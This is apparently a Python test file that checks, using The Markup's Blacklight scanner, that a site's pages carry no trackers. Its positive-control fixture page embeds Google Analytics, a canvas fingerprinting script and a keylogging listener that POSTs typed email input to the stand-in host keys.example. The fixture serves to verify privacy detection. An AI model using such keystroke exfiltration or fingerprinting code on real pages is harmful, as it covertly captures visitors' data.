"""The Markup's Blacklight, which finds out who watches visitors of a website, finds nobody on any page."""

from __future__ import annotations

from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

import pytest

from tests.outside import tools
from tests.outside.conftest import Shelf
from tests.serving import served

pytestmark = [pytest.mark.full, pytest.mark.browser]

SEEN = {"behaviour_event_listeners", "canvas_fingerprinters", "cookies", "key_logging", "third_party_trackers"}
"""What Blacklight tells of that a page of a test can do; it knows recorders of sessions by their hosts."""

TELLTALE = {
    "/": b"""<!DOCTYPE html><html lang="en"><title>x</title><form><input id="who" type="email" name="email"></form>
<script src="https://www.google-analytics.com/analytics.js"></script><script src="/canvas.js"></script>
<script>
  document.cookie = "visitor=1; max-age=9999999";
  who.addEventListener("input", () => fetch("https://keys.example/", { method: "POST", body: who.value }));
  addEventListener("mousemove", () => {});
</script></html>""",
    "/canvas.js": b"""const canvas = document.createElement("canvas"), pen = canvas.getContext("2d");
pen.fillStyle = "#f60"; pen.fillRect(0, 0, 100, 50); pen.fillStyle = "#069";
pen.fillText("Cwm fjordbank glyphs vext quiz", 2, 15); canvas.toDataURL();""",
}
"""A page that does what none of ours may, and its script."""


def telltale(environ: dict[str, Any], start_response: Callable[..., object]) -> Iterable[bytes]:
    """Its server."""
    path = environ["PATH_INFO"]
    start_response("200 OK", [("Content-Type", "text/javascript" if path.endswith(".js") else "text/html")])
    return [TELLTALE.get(path, b"")]


def inspected(urls: list[str], folder: Path) -> dict[str, dict[str, Any]]:
    """What Blacklight says of each address."""
    found: dict[str, dict[str, Any]] = tools.ask("blacklight.mjs", {"urls": urls, "folder": str(folder)})
    return found


def kinds(said: object) -> bool:
    """Whether anything is found anywhere below a report."""
    if isinstance(said, dict):
        return any(map(kinds, said.values()))
    return bool(said)


def test_nobody_watches_who_watches(shelf: Shelf, folder: Path) -> None:
    found = inspected([f"{shelf.named}{path}" for path in shelf.paths], folder)
    assert len(found) == len(shelf.paths)
    for url, said in found.items():
        assert said["status"] == "success", url
        assert said["hosts"]["requests"] == {"first_party": [tools.HOST], "third_party": []}, url
        assert set(said["reports"]) >= SEEN, url
        assert [(url, name, report) for name, report in said["reports"].items() if kinds(report)] == []


def test_it_sees(folder: Path) -> None:
    with served(telltale) as port:
        (said,) = inspected([f"http://{tools.HOST}:{port}/"], folder).values()
    assert {name for name, report in said["reports"].items() if kinds(report)} == SEEN
    assert set(said["hosts"]["requests"]["third_party"]) == {"www.google-analytics.com", "keys.example"}
